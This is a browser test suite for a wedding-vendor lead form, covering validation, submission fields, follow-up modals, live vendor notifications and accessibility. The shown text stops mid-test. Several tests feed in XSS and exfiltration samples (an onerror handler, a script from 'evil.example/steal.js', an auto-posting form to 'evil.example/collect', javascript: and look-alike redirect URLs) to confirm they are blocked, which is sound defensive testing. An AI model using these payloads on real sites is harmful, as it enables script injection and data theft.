import type { BrowserContext, Locator, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { axeViolations, booted, callsFrom, collectErrors, logIn, resetStandIn, usePreviewInChromium, expectFocused } from './browser-helpers';

const env = usePreviewInChromium();

const VENDOR_ID = 1000;
const RUN_PATH = '/vendors/item/lead/form_half/run';

/** A fresh visitor on a vendor's lead form page (/emp-Form.php), the stand-in reset. */
async function leadPage(query = '', options: { context?: BrowserContext } = {}) {
  const context = options.context ?? (await env.browser.newContext());
  const page = await context.newPage();
  const errors = collectErrors(page);
  await resetStandIn(env.url);
  await page.goto(`${env.url}emp-Form.php?id_empresa=${VENDOR_ID}${query}`);
  await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
  return { context, page, errors, form: page.locator('form.lead-form') };
}

/** A fresh context logged in as `mail` on a reset stand-in, on the home page. */
async function loggedInPage(mail: string, password: string) {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  const errors = collectErrors(page);
  await resetStandIn(env.url);
  await logIn(context, env.url, mail, password);
  await page.goto(`${env.url}home`);
  return { context, page, errors };
}

function isoDay(offsetDays: number): string {
  const day = new Date();
  day.setDate(day.getDate() + offsetDays);
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${day.getFullYear()}-${pad(day.getMonth() + 1)}-${pad(day.getDate())}`;
}

/** Fills a valid lead as a person would. */
async function fillValidLead(form: Locator, mail = 'jordan.blake@example.com') {
  await form.getByLabel('Name').fill('Jordan Blake');
  await form.getByLabel('Email').fill(mail);
  await form.getByLabel('Phone').fill('4155550199');
  await form.getByLabel('Date', { exact: true }).fill(isoDay(200));
  await form.getByLabel('Estimated guest count').fill('90');
  await form.getByLabel('Bride or groom').check();
  await form.getByRole('textbox', { name: 'Message' }).fill('Hello! Is our date still available for 90 guests?');
  await form.getByRole('checkbox', { name: /^I accept the Terms of use/ }).check();
}

/** The accessible description (the kit's message) of a control. */
async function problemOf(control: Locator): Promise<string> {
  return control.evaluate((el) => {
    const ids = (el.closest('fieldset[aria-describedby]') ?? el).getAttribute('aria-describedby') ?? '';
    return ids
      .split(/\s+/)
      .map((id) => document.getElementById(id)?.textContent?.trim() ?? '')
      .filter(Boolean)
      .join(' ');
  });
}

async function submit(form: Locator) {
  await form.getByRole('button', { name: /Request pricing|Send message/ }).click();
}

describe('the lead form in Chromium', () => {
  it('says each message of spec §5 for its bad input, under its field', async () => {
    const { context, form, errors } = await leadPage('&country=ES');
    await form.getByLabel('Message').fill('  Too short ');
    await submit(form);
    await expect(problemOf(form.getByLabel('Name'))).resolves.toBe('Enter your full name.');
    await expect(problemOf(form.getByLabel('Email'))).resolves.toBe('Check that the email is correct.');
    await expect(problemOf(form.getByLabel('Phone'))).resolves.toBe('Please enter a valid phone number');
    await expect(problemOf(form.getByLabel('Estimated guest count'))).resolves.toBe('Estimated guest count');
    await expect(problemOf(form.getByLabel('Bride or groom'))).resolves.toBe('Let us know your role in the wedding');
    await expect(problemOf(form.getByLabel('Message'))).resolves.toBe('Your comment must contain at least ten characters.');
    await expect(problemOf(form.getByRole('checkbox', { name: /^I accept/ }))).resolves.toBe('You must accept the Terms of Use and privacy policy.');
    // The first problem has focus.
    await expectFocused(form.getByLabel('Name'));

    // Yesterday is past; today is not.
    await form.getByLabel('Date', { exact: true }).fill(isoDay(-1));
    await form.getByLabel('Phone').fill('12345');
    await submit(form);
    await expect(problemOf(form.getByLabel('Date', { exact: true }))).resolves.toBe('Event date');
    await expect(problemOf(form.getByLabel('Phone'))).resolves.toBe('Please enter a valid phone number');
    await form.getByLabel('Date', { exact: true }).fill(isoDay(0));
    await form.getByLabel('Phone').fill(' 123456 ');
    await submit(form);
    await expect(problemOf(form.getByLabel('Date', { exact: true }))).resolves.toBe('');
    await expect(problemOf(form.getByLabel('Phone'))).resolves.toBe('');

    // An approximate date needs both parts.
    await form.getByLabel('Approximate date').check();
    await form.getByLabel('Season').selectOption('summer');
    await submit(form);
    await expect(problemOf(form.getByLabel('Year'))).resolves.toBe('Event date');
    expect(errors).toEqual([]);
    await context.close();
  });

  it('asks Brazil for ten characters of phone and the US for none', async () => {
    const brazil = await leadPage('&country=BR');
    await brazil.form.getByLabel('Phone').fill('123456789 ');
    await submit(brazil.form);
    await expect(problemOf(brazil.form.getByLabel('Phone'))).resolves.toBe('Please enter a valid phone number');
    await brazil.form.getByLabel('Phone').fill('1234567890');
    await submit(brazil.form);
    await expect(problemOf(brazil.form.getByLabel('Phone'))).resolves.toBe('');
    await brazil.context.close();
    const us = await leadPage();
    await submit(us.form);
    await expect(problemOf(us.form.getByLabel('Phone'))).resolves.toBe('');
    await us.context.close();
  });

  it("offers Add {term} when no venue matches, and the server receives the venue's name", async () => {
    // Vendor 1020 is a photographer: its form asks for the couple's venue.
    const page = await env.browser.newPage();
    const errors = collectErrors(page);
    await resetStandIn(env.url);
    await page.goto(`${env.url}emp-Form.php?id_empresa=1020`);
    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
    const form = page.locator('form.lead-form');
    await fillValidLead(form);
    const venue = form.getByRole('combobox', { name: 'Your venue, if you have one' });
    await venue.pressSequentially('Zebra Barn');
    await page.getByRole('option', { name: 'Add Zebra Barn' }).click();
    await expect(venue.inputValue()).resolves.toBe('Zebra Barn');
    const bodies: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes(RUN_PATH)) bodies.push(request.postData() ?? '');
    });
    await submit(form);
    await page.getByText('Your message has been sent').waitFor();
    const sent = new URLSearchParams(bodies[0]);
    expect([sent.get('venueName'), sent.has('venue')]).toEqual(['Zebra Barn', false]);
    expect(errors).toEqual([]);
    await page.close();
  });

  it('sends a valid lead once, with the server’s field names, and the vendor’s requests list shows it', async () => {
    const { context, page, form, errors } = await leadPage();
    await fillValidLead(form);
    const bodies: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes(RUN_PATH)) bodies.push(request.postData() ?? '');
    });
    await form.getByRole('button', { name: 'Request pricing' }).dblclick();
    await page.getByText('Your message has been sent').waitFor();
    expect(bodies).toHaveLength(1);
    const sent = new URLSearchParams(bodies[0]);
    expect(Object.fromEntries(['id_empresa', 'Nombre', 'Mail', 'Telefono', 'Fecha', 'Comensales', 'role', 'legal'].map((k) => [k, sent.get(k)]))).toEqual({
      id_empresa: String(VENDOR_ID),
      Nombre: 'Jordan Blake',
      Mail: 'jordan.blake@example.com',
      Telefono: '4155550199',
      Fecha: isoDay(200),
      Comensales: '90',
      role: '1',
      legal: '1',
    });
    expect(sent.get('message')).toBe('Hello! Is our date still available for 90 guests?');
    // Spec §6: the form-insert variant, a visitor on a laptop.
    expect(sent.get('frmVariant')).toBe('desktop');
    // The analytics service's queue got the lead once: its category and group as the server's form
    // says them (a venue: category 1, the stand-in's group 1), the vendor and the default insert (spec §3 dimensions).
    const leads = await page.evaluate(() => (window.dataLayer ?? []).filter((hit) => (hit as { event?: string }).event === 'generate_lead'));
    expect(leads).toEqual([expect.objectContaining({ leadCategory: '1', leadGroup: '1', vendorId: String(VENDOR_ID), insertForm: '26' })]);

    const vendor = await env.browser.newContext();
    const vendorPage = await vendor.newPage();
    await logIn(vendorPage, env.url, 'vendor@example.com', 'Vendor2026!');
    await vendorPage.goto(`${env.url}inbox`);
    await vendorPage.getByRole('navigation', { name: 'Conversations' }).getByRole('link', { name: /Jordan Blake/ }).waitFor();
    await vendor.close();
    expect(errors).toEqual([]);
    await context.close();
  });
});

/** Makes every lead answer carry this nextStep (the stand-in fills the lead's ids). */
async function forceNextStep(page: Page, step: { type: string; html?: string; redirect_url?: string }) {
  await page.evaluate((s) => window.mockBackend?.nextStep(s as never), step);
}

/** A valid lead sent from the page, its nextStep forced first when given. */
async function sendLeadWith(step?: { type: string; html?: string; redirect_url?: string }) {
  const opened = await leadPage();
  if (step) await forceNextStep(opened.page, step);
  await fillValidLead(opened.form);
  await submit(opened.form);
  return opened;
}

const HOSTILE_HTML =
  '<h2>Message sent!</h2><p>Thanks.</p><img src="x" onerror="window.__pwned = 1"><script src="https://evil.example/steal.js"></script><script>window.__inline = 1</script>';

describe('each nextStep type of spec §4, driven from the stand-in', () => {
  it('multi_lead_modal: more vendors, pre-checked, one message; then the cross-sell modal', async () => {
    const { context, page, errors } = await sendLeadWith();
    const dialog = page.getByRole('dialog', { name: 'Your message was sent to Rosewood Estate' });
    await dialog.waitFor();
    const picks = dialog.getByRole('checkbox');
    expect(await picks.count()).toBeGreaterThan(0);
    for (const pick of await picks.all()) expect(await pick.isChecked()).toBe(true);
    expect(await axeViolations(page)).toEqual([]);
    const multi = await callsFrom(env.url, '/vendors/item/lead/multi/run');
    await dialog.getByRole('button', { name: 'Send messages' }).click();
    await page.getByRole('dialog', { name: 'Messages sent!' }).waitFor();
    // These leads carry the form-insert variant too (spec §6): a visitor on a laptop (the stand-in's side).
    expect((await multi()).map((leads) => leads.frmVariant)).toEqual(['desktop']);
    // Spec §3: the leads sent are an analytics event with their category and group (the first is the form's lead).
    const leadEvents = await page.evaluate(() =>
      ((window as unknown as { dataLayer?: { event?: string; leadCategory?: string; leadGroup?: string }[] }).dataLayer ?? []).filter((hit) => hit.event === 'generate_lead').map((hit) => [hit.leadCategory, hit.leadGroup]),
    );
    expect(leadEvents).toEqual([
      ['1', '1'],
      ['1', '1'],
    ]);
    // The multilead form is tracked as 'lead form multi' (spec §2): shown, the click, the success.
    await expect
      .poll(async () => {
        const trackings = (await (await page.request.get(`${env.url}__mock/trackings`)).json()) as { name: string; idAction: number; idCategory: number }[];
        return trackings.filter((t) => t.name === 'lead form multi').map((t) => [t.idAction, t.idCategory]);
      })
      .toEqual(expect.arrayContaining([[1, 1], [3, 1]]));
    expect(errors).toEqual([]);
    await context.close();
  });

  it('multi_lead_promo_modal and multi_lead_event_modal open the same multilead modal', async () => {
    for (const type of ['multi_lead_promo_modal', 'multi_lead_event_modal']) {
      const html = '<section><h2>More deals like this</h2><form><input type="hidden" name="categoryId" value="1"><label><input type="checkbox" name="vendorsEscaparateId[]" value="2001" checked> Other venue</label><label for="c">Message</label><textarea id="c" name="Comentario">We would love to know more about you.</textarea><button type="submit">Send messages</button></form></section>';
      const { context, page, errors } = await sendLeadWith({ type, html });
      const vendor = page.getByRole('dialog', { name: 'More deals like this' }).getByRole('checkbox', { name: 'Other venue' });
      await vendor.waitFor();
      await expect(vendor.isChecked(), type).resolves.toBe(true);
      expect(errors, type).toEqual([]);
      await context.close();
    }
  });

  it('html steps show their modal, and an embedded form that asks to be sent is sent to this site only', async () => {
    for (const type of ['redirect_to_venta_cruzada_after_multi_lead', 'multi_lead_no_results', 'microsite_thank_you_page']) {
      const { context, page } = await sendLeadWith({ type, html: `<h2>Step ${type}</h2><p>All done.</p>` });
      await page.getByRole('dialog', { name: `Step ${type}` }).getByText('All done.').waitFor();
      await context.close();
    }
    for (const type of ['redirect_to_contactar_show_after_cross_sell', 'redirect_to_url_after_lead']) {
      const html = '<h2>One moment</h2><form data-submit-on-show action="/multi-category-lead" method="post"><input type="hidden" name="originCategoryId" value="1"></form>';
      const { context, page } = await sendLeadWith({ type, html });
      await page.waitForURL(/\/multi-category-lead/);
      await context.close();
    }
    const foreign = '<h2>One moment</h2><form data-submit-on-show action="https://evil.example/collect" method="post"><input type="hidden" name="x" value="1"></form>';
    const { context, page } = await sendLeadWith({ type: 'redirect_to_url_after_lead', html: foreign });
    const evil: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) evil.push(request.url());
    });
    await page.getByRole('dialog', { name: 'One moment' }).waitFor();
    expect(page.url()).toContain('/emp-Form.php');
    expect(evil).toEqual([]);
    await context.close();
  });

  it('expert_advice_modal opens the expert-advice stepper for the lead, axe clean', async () => {
    const { context, page, errors } = await sendLeadWith({ type: 'expert_advice_modal' });
    const dialog = page.getByRole('dialog', { name: 'Free advice from a wedding expert' });
    await dialog.getByRole('heading', { level: 3 }).first().waitFor();
    expect(await axeViolations(page)).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('expert_advice_modal whose planner fails to load says so in a toast with Try again, which opens the stepper', async () => {
    const opened = await leadPage();
    let failures = 1;
    await opened.page.route('**/wedding-planner-modal*', (route) => (failures-- > 0 ? route.fulfill({ status: 500, body: 'Server error' }) : route.fallback()));
    await forceNextStep(opened.page, { type: 'expert_advice_modal' });
    await fillValidLead(opened.form);
    await submit(opened.form);
    const toast = opened.page.getByRole('status').filter({ hasText: 'We could not open the wedding expert’s questions.' });
    await toast.waitFor();
    expect(await opened.page.getByRole('dialog', { name: 'Free advice from a wedding expert' }).count()).toBe(0);
    expect(await axeViolations(opened.page)).toEqual([]);
    await toast.getByRole('button', { name: 'Try again' }).click();
    await opened.page.getByRole('dialog', { name: 'Free advice from a wedding expert' }).getByRole('heading', { level: 3 }).first().waitFor();
    // The failure provoked, as the browser and the flow log it: nothing else.
    expect(opened.errors.filter((error) => !/^\[widgets\] Expert advice: the planner modal did not load\.|status of 500/.test(error))).toEqual([]);
    await opened.context.close();
  });

  it('promo_modal loads the coupon page in the modal', async () => {
    const { context, page } = await sendLeadWith({ type: 'promo_modal' });
    const code = page.getByRole('dialog', { name: 'Your coupon from Rosewood Estate' }).getByText(/^Code:/);
    await code.waitFor();
    await expect(code.textContent()).resolves.toBe('Code: WED-1000-0');
    await context.close();
  });

  it('redirect_to_url goes to a host the site config allows (redirectHosts), not to a look-alike', async () => {
    const allowed = new URL('/tools/Vendors?from=lead', env.url.replace('127.0.0.1', 'localhost')).href;
    const other = await sendLeadWith({ type: 'redirect_to_url', redirect_url: allowed });
    await other.page.waitForURL(allowed);
    expect(other.page.url()).toBe(allowed);
    await other.context.close();
    const lookAlike = await sendLeadWith({ type: 'redirect_to_url', redirect_url: allowed.replace('localhost', 'localhost.evil.example') });
    await lookAlike.page.waitForURL(env.url);
    expect(lookAlike.page.url()).toBe(env.url);
    await lookAlike.context.close();
  });

  it('redirect_to_url goes to a same-origin URL, to / when absent, never to a hostile one', async () => {
    const same = await sendLeadWith({ type: 'redirect_to_url', redirect_url: '/tools/Vendors?from=lead' });
    await same.page.waitForURL(`${env.url}tools/Vendors?from=lead`);
    await same.context.close();
    const absent = await sendLeadWith({ type: 'redirect_to_url' });
    await absent.page.waitForURL(env.url);
    await absent.context.close();
    for (const hostile of ['javascript:window.__pwned=1', '//evil.example/', 'https://site.example.evil.example/']) {
      const { context, page } = await sendLeadWith({ type: 'redirect_to_url', redirect_url: hostile });
      await page.waitForURL(env.url);
      expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
      await context.close();
    }
  });

  it('inserted HTML with <img onerror> and scripts runs nothing', async () => {
    const { context, page } = await leadPage();
    const evil: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) evil.push(request.url());
    });
    await forceNextStep(page, { type: 'microsite_thank_you_page', html: HOSTILE_HTML });
    await fillValidLead(page.locator('form.lead-form'));
    await submit(page.locator('form.lead-form'));
    await page.getByRole('dialog', { name: 'Message sent!' }).getByText('Thanks.').waitFor();
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => [(window as { __pwned?: number }).__pwned, (window as { __inline?: number }).__inline])).toEqual([undefined, undefined]);
    expect(evil).toEqual([]);
    await context.close();
  });
});

describe('the lead form keeps what was typed', () => {
  it('keeps the message through a network error and a 500, sends it once back, and after a reload', async () => {
    const { context, page, form, errors } = await leadPage();
    await fillValidLead(form);
    const message = 'Could you send us your prices for a Sunday in June, please?';
    await form.getByLabel('Message').fill(message);
    await page.reload();
    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
    await expect(page.getByLabel('Message').inputValue()).resolves.toBe(message);

    await fillValidLead(page.locator('form.lead-form'));
    await page.getByLabel('Message').fill(message);
    for (const scenario of ['offline', 'server-error'] as const) {
      await page.evaluate((s) => window.mockBackend?.scenario(s), scenario);
      await submit(page.locator('form.lead-form'));
      await page.locator('form.lead-form [role="alert"]').filter({ hasText: /./ }).first().waitFor();
      await expect(page.getByLabel('Message').inputValue()).resolves.toBe(message);
    }
    await page.evaluate(() => window.mockBackend?.scenario('normal'));
    await submit(page.locator('form.lead-form'));
    await page.getByText('Your message has been sent').waitFor();
    // Sent: the draft is gone.
    await page.reload();
    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
    await expect(page.getByLabel('Message').inputValue()).resolves.not.toBe(message);
    expect(errors.filter((e) => !/Failed to load resource|500/.test(e))).toEqual([]);
    await context.close();
  });
});

/** Pushes a harmless event until `subscribers` sockets listen on the channel (pusher-js subscribes after the session check). */
async function waitForSubscribers(page: Page, channel: string, subscribers: number) {
  await page.waitForFunction(
    async ({ channel, subscribers }) => ((await window.mockBackend?.push(channel, 'update', {})) ?? 0) >= subscribers,
    { channel, subscribers },
    { polling: 200, timeout: 15000 },
  );
}

/** Tabs until the focused element matches, as a keyboard user would. */
async function tabUntil(page: Page, test: string, max = 15) {
  for (let i = 0; i < max; i++) {
    await page.keyboard.press('Tab');
    if (await page.evaluate((selector) => document.activeElement?.matches(selector) ?? false, test)) return;
  }
  throw new Error(`Tab never reached ${test}`);
}

describe('the vendor gets the lead live', () => {
  it("in another browser context: the requests list, the notification and the vendor's pending-requests counter, without a reload", async () => {
    const { context: vendor, page: vendorPage, errors: vendorErrors } = await loggedInPage('vendor@example.com', 'Vendor2026!');
    await vendorPage.goto(`${env.url}inbox`);
    await waitForSubscribers(vendorPage, `private-vendor-${VENDOR_ID}`, 1);
    // Spec §6: a vendor's header counts the pending requests.
    const before = await vendorPage.evaluate(async () => ((await (await fetch('/emp-AdminSolicitudesPending.php')).json()) as { numPending: number }).numPending);
    await vendorPage.waitForFunction((n) => {
      const label = document.querySelector('header [aria-label^="Requests"]')?.getAttribute('aria-label') ?? '';
      return Number(/(\d+) pending/.exec(label)?.[1] ?? 0) === n;
    }, before);

    const couple = await env.browser.newContext();
    const page = await couple.newPage();
    await page.goto(`${env.url}emp-Form.php?id_empresa=${VENDOR_ID}`);
    await page.waitForSelector('form.lead-form[data-widget-state="mounted"]');
    await fillValidLead(page.locator('form.lead-form'), 'casey.lane@example.com');
    await page.getByLabel('Name').fill('Casey Lane');
    await submit(page.locator('form.lead-form'));
    await page.getByText('Your message has been sent').waitFor();

    // Announced politely, listed first, counted: all on the page the vendor already had open.
    await vendorPage.getByRole('status').filter({ hasText: 'Casey Lane sent you a request' }).waitFor();
    const first = vendorPage.getByRole('navigation', { name: 'Conversations' }).getByRole('listitem').first();
    await expect(first.textContent()).resolves.toContain('Casey Lane sent you a request');
    await vendorPage.waitForFunction((n) => {
      const label = document.querySelector('header [aria-label^="Requests"]')?.getAttribute('aria-label') ?? '';
      return Number(/(\d+) pending/.exec(label)?.[1] ?? 0) > n;
    }, before);
    expect(vendorErrors).toEqual([]);
    await couple.close();
    await vendor.close();
  });
});

describe('a known e-mail and the keyboard', () => {
  it('hides role, region and consent for an address the site knows, and sends without them', async () => {
    const { context, page, form } = await leadPage();
    await form.getByLabel('Email').fill('couple@example.com');
    await form.getByLabel('Email').blur();
    await form.getByRole('group', { name: 'Your role in the wedding' }).waitFor({ state: 'hidden' });
    await form.getByLabel('Region of the wedding').waitFor({ state: 'hidden' });
    await form.getByRole('checkbox', { name: /^I accept/ }).waitFor({ state: 'hidden' });
    await form.getByLabel('Name').fill('Alex Morgan');
    await form.getByLabel('Estimated guest count').fill('80');
    const received = await callsFrom(env.url, RUN_PATH);
    await submit(form);
    await page.getByText('Your message has been sent').waitFor();
    // On the stand-in's side: the lead it took, without the fields the known address hides.
    const [sent] = await received();
    expect([sent?.Mail, 'role' in sent!, 'region' in sent!, 'legal' in sent!]).toEqual(['couple@example.com', false, false, false]);
    // An address the site does not know asks for them again.
    const again = await leadPage();
    await again.form.getByLabel('Email').fill('someone.new@example.com');
    await again.form.getByLabel('Email').blur();
    await again.form.getByRole('group', { name: 'Your role in the wedding' }).waitFor();
    expect(await again.form.getByRole('checkbox', { name: /^I accept/ }).isVisible()).toBe(true);
    await again.context.close();
    await context.close();
  });

  it('is used by keyboard alone, with the errors announced and axe clean, then the modal it opens', async () => {
    const { context, page, form, errors } = await leadPage();
    await form.getByLabel('Name').focus();
    await page.keyboard.press('Enter');
    await form.getByText('Enter your full name.').first().waitFor();
    expect(await axeViolations(page)).toEqual([]);
    // The first problem has focus: type, then Tab through the form.
    await page.keyboard.type('Jordan Blake');
    await tabUntil(page, '[name="Mail"]');
    await page.keyboard.type('jordan.keys@example.com');
    await tabUntil(page, '[name="Telefono"]');
    await page.keyboard.type('4155550199');
    await tabUntil(page, '[name="Fecha"]');
    await page.keyboard.type(isoDay(300).replace(/^(\d{4})-(\d{2})-(\d{2})$/, '$2$3$1'));
    await tabUntil(page, '[name="Comensales"]');
    await page.keyboard.type('120');
    await tabUntil(page, '[name="role"]');
    await page.keyboard.press('Space');
    await tabUntil(page, '[name="legal"]');
    await page.keyboard.press('Space');
    await tabUntil(page, 'button[type="submit"]');
    const received = await callsFrom(env.url, RUN_PATH);
    await page.keyboard.press('Enter');
    await page.getByText('Your message has been sent').waitFor();
    const [sent] = await received();
    expect([sent?.Nombre, sent?.Fecha, sent?.Comensales, sent?.role, sent?.legal]).toEqual(['Jordan Blake', isoDay(300), '120', '1', '1']);
    const dialog = page.getByRole('dialog', { name: 'Your message was sent to Rosewood Estate' });
    await dialog.waitFor();
    expect(await axeViolations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
    expect(errors).toEqual([]);
    await context.close();
  });
});

/** The dist chunks the page fetched so far, by name. */
function chunkRequests(page: Page): string[] {
  const names: string[] = [];
  page.on('request', (request) => {
    const match = /\/chunks\/([a-z-]+)-[\w-]+\.js$/.exec(request.url());
    if (match?.[1]) names.push(match[1]);
  });
  return names;
}

/** `path` on a reset stand-in in a fresh context, booted, with its errors and the chunks it fetches watched. */
async function watchedPage(path: string) {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  const errors = collectErrors(page);
  const chunks = chunkRequests(page);
  await resetStandIn(env.url);
  await page.goto(env.url + path);
  await booted(page);
  return { context, page, errors, chunks };
}

describe("a storefront's lead form", () => {
  it('is used and checked with no React: the server form, enhanced; React comes only with a modal', async () => {
    const { context, page, errors, chunks } = await watchedPage('biz/rosewood-estate-1000.html');
    const form = page.locator('form[data-widget="lead-form"]').first();
    await form.getByLabel('Name').click();
    await form.getByLabel('Name').pressSequentially('Jo');
    await page.waitForSelector('form[data-widget="lead-form"][data-widget-state="mounted"]');
    await form.getByRole('button', { name: 'Request pricing' }).click();
    // The kit answers the empty fields at once (spec §5), all without React.
    expect(await problemOf(form.getByLabel('Email'))).not.toBe('');
    expect(await form.getByLabel('Name').inputValue()).toBe('Jo');
    expect(chunks).toContain('lead-form');
    expect(chunks.filter((name) => name === 'react' || name === 'react-hooks')).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe('the lead form modal', () => {
  it('opens from a listing tile, runs only the fragment’s own scripts, and sends the lead; its code loads only then, with no React', async () => {
    const { context, page, errors, chunks } = await watchedPage('c/ca/san-francisco/wedding-photographers/6-vendors.html');
    expect(chunks.filter((name) => name.startsWith('lead-form') || name === 'open-lead-form')).toEqual([]);
    const asked = await callsFrom(env.url, '/landings/form.php');

    const cta = page.getByRole('link', { name: /^Request pricing from / }).first();
    const vendorName = ((await cta.textContent()) ?? '').replace(/^Request pricing from /, '').trim();
    await cta.click();
    const dialog = page.getByRole('dialog', { name: `Message ${vendorName}` });
    await dialog.getByLabel('Name').waitFor();
    expect(chunks).toContain('open-lead-form');
    // The tile asks for no flexible dates (spec §2 leadWithFlexibleDates): the form has none.
    expect((await asked()).map((call) => 'leadWithFlexibleDates' in call)).toEqual([false]);
    expect(await dialog.getByRole('checkbox', { name: 'My dates are flexible' }).count()).toBe(0);
    // The modal is no React (src/ui/fragment/fragment-dialog.ts): the tap waits for none.
    expect(chunks.filter((name) => name === 'react' || name === 'react-hooks')).toEqual([]);
    // The layer's inline script ran (the legacy dataLayer push), from our own origin.
    await page.waitForFunction(() => (window as unknown as { dataLayer?: { event?: string }[] }).dataLayer?.some((e) => e.event === 'leadFormShown'));
    expect(await axeViolations(page)).toEqual([]);
    // The half form's prepared message reads as text until edited; Cancel puts it back.
    const message = dialog.getByRole('textbox', { name: 'Message' });
    const prepared = await message.inputValue();
    expect(await message.isEditable()).toBe(false);
    await dialog.getByRole('button', { name: 'Edit message' }).click();
    await expectFocused(message);
    await page.keyboard.type(' And a question about albums.');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(message.inputValue()).resolves.toBe(prepared);
    await dialog.getByRole('button', { name: 'Edit message' }).click();
    await fillValidLead(dialog, 'tile.couple@example.com');
    const answer = page.waitForResponse((response) => response.url().includes(RUN_PATH));
    await submit(dialog);
    expect(await (await answer).json()).toMatchObject({ status: true });
    // The modal moves on to the lead's next step, on the same page.
    await page.getByRole('dialog', { name: /^(Your message was sent to |Message sent!)/ }).waitFor();
    expect(page.url()).toContain('6-vendors.html');
    expect(errors).toEqual([]);
    await context.close();
  });

  it("carries the form-insert variant of a phone and of the couple's log-in (spec §6): mobile-logged from a tile's layer", async () => {
    await resetStandIn(env.url);
    const context = await env.browser.newContext({ viewport: { width: 412, height: 860 }, isMobile: true, hasTouch: true });
    await logIn(context, env.url, 'couple@example.com', 'Wedding2026!');
    const page = await context.newPage();
    const errors = collectErrors(page);
    await page.goto(`${env.url}c/ca/san-francisco/wedding-photographers/6-vendors.html`);
    const cta = page.getByRole('link', { name: /^Request pricing from / }).first();
    const vendorName = ((await cta.textContent()) ?? '').replace(/^Request pricing from /, '').trim();
    await cta.click();
    const dialog = page.getByRole('dialog', { name: `Message ${vendorName}` });
    await dialog.getByRole('textbox', { name: 'Message' }).waitFor();
    await dialog.getByRole('button', { name: 'Edit message' }).click();
    await fillValidLead(dialog, 'alex.and.sam@example.com');
    const received = await callsFrom(env.url, RUN_PATH);
    await submit(dialog);
    // On the stand-in's side: the lead it took.
    await expect.poll(async () => (await received()).map((lead) => lead.frmVariant)).toEqual(['mobile-logged']);
    await page.getByRole('dialog', { name: /^(Your message was sent to |Message sent!)/ }).waitFor();
    expect(errors).toEqual([]);
    await context.close();
  });

  it.each([
    ['a phone', 'mobile', undefined],
    ["the app's web view", 'app', 'Mozilla/5.0 (Linux; Android 14; wv) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36 EverwedApp/android'],
  ] as const)("sends a storefront's lead natively on %s, with its form-insert variant %s (spec §6)", async (_where, variant, userAgent) => {
    await resetStandIn(env.url);
    const context = await env.browser.newContext({ viewport: { width: 412, height: 860 }, isMobile: true, hasTouch: true, ...(userAgent ? { userAgent } : {}) });
    const page = await context.newPage();
    await page.goto(`${env.url}biz/rosewood-estate-1000.html`);
    const form = page.locator('form[data-widget="lead-form"]').first();
    await fillValidLead(form, 'native.phone@example.com');
    const sent = page.waitForRequest((request) => new URL(request.url()).pathname === RUN_PATH && request.method() === 'POST');
    const received = await callsFrom(env.url, RUN_PATH);
    await submit(form);
    // The browser's own post (a navigation), not a call; the stand-in took its variant.
    expect((await sent).isNavigationRequest()).toBe(true);
    await expect.poll(async () => (await received()).map((lead) => lead.frmVariant)).toEqual([variant]);
    await context.close();
  });

  it('refuses the hostile parts of a lead form fragment: no onerror, no foreign script', async () => {
    const context = await env.browser.newContext();
    const page = await context.newPage();
    const evil: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) evil.push(request.url());
    });
    await page.route('**/landings/form.php*', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: '<section><h2>Message us</h2><form><input type="hidden" name="id_empresa" value="1000"><label for="n">Name</label><input id="n" name="Nombre"><img src="x" onerror="window.__pwned = 1"><script src="https://evil.example/steal.js"></script></form></section>',
      }),
    );
    await page.goto(`${env.url}c/ca/san-francisco/wedding-photographers/6-vendors.html`);
    // A click before the runtime runs follows the link to the server's form page, as without JavaScript.
    await booted(page);
    await page.getByRole('link', { name: /^Request pricing from / }).first().click();
    await page.getByRole('dialog', { name: 'Message us' }).getByLabel('Name').waitFor();
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(evil).toEqual([]);
    await context.close();
  });

  it('opens a storefront deal’s form, with the form half’s optional parameters, and shows the coupon after the lead', async () => {
    const { context, page } = await leadPage();
    await page.goto(`${env.url}biz/rosewood-estate-1000.html`);
    await booted(page);
    const asked = await callsFrom(env.url, '/vendors/transactional/promotion-form-half');
    await page.getByRole('link', { name: 'Get this deal' }).click();
    const dialog = page.getByRole('dialog', { name: 'Get this deal from Rosewood Estate' });
    await dialog.getByLabel('Name').waitFor();
    // The form half's optional parameters the page wrote on the link are sent (spec §2); the absent ones are not (the stand-in's side).
    const [sent] = await asked();
    expect(Object.fromEntries(['promotionId', 'storefrontId', 'leadWithFlexibleDates', 'leadFormWithServices', 'expertAdviceExperimentVariantName', 'priceFilterTestabVariant', 'itExtraTestAb'].map((key) => [key, sent?.[key]]))).toEqual({
      promotionId: '1',
      storefrontId: '5000',
      leadWithFlexibleDates: '1',
      leadFormWithServices: '1',
      expertAdviceExperimentVariantName: 'control',
      priceFilterTestabVariant: 'b',
      itExtraTestAb: 'on',
    });
    expect(['testAB', 'spotlightExperiment', 'isResponsiveWithPhoneNum'].filter((key) => key in sent!)).toEqual([]);
    // Asked with flexible dates, the form has its checkbox.
    await dialog.getByRole('checkbox', { name: 'My dates are flexible' }).waitFor();
    await dialog.getByRole('button', { name: 'Edit message' }).click();
    await fillValidLead(dialog, 'deal.couple@example.com');
    await submit(dialog);
    const code = page.getByRole('dialog', { name: 'Your coupon from Rosewood Estate' }).getByText(/^Code:/);
    await code.waitFor();
